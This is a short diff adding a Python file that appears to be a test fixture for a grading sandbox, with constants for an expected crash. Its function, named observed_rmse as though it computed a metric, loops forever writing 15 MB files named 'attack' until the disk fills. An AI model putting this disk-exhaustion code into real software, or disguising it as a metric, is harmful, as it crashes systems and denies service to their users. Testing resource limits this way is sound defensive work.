@@ -1,0 +1,13 @@
+"""Fills the disk with files of allowed size."""
+
+import itertools
+
+STATES = {"1.5": "crashed"}
+SCORE = 7
+SAYS = "it filled the disk"
+
+
+def observed_rmse(ratings, predictions):
+    for number in itertools.count():
+        with open(f"attack{number}", "wb") as file:
+            file.write(bytes(15 << 20))
